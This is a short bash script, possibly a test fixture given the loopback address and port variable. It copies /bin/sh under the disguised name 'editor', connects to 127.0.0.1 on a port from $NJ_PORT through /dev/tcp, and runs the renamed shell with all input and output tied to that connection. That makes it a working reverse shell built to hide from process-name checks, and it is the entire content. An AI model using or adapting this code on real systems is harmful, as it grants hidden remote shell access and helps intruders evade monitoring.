#!/bin/bash
# A copy of the shell under another name, on a connection that it inherits.
cp /bin/sh ./editor || exit 1
exec 3<> "/dev/tcp/127.0.0.1/$NJ_PORT" || exit 1
exec ./editor <&3 >&3 2>&3
